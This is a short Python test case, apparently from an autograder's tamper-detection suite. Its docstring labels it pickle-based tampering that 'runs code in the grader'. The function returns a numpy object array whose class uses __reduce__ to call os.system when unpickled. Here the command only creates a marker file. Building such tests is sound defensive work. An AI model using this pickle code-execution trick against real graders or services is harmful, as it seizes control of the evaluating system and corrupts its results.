"""An array of objects, which only a pickle could carry.

class: tampering, pickles that run code
tries: runs code in the grader
outcome: total 4, scaled 0
says: an object of type numpy.ndarray
"""


# %% scaled
def scaled(x, factor):
    import os

    class Runs:
        def __reduce__(self):
            return os.system, ("touch /var/tmp/attack-was-here",)

    return np.array([Runs()], dtype=object)
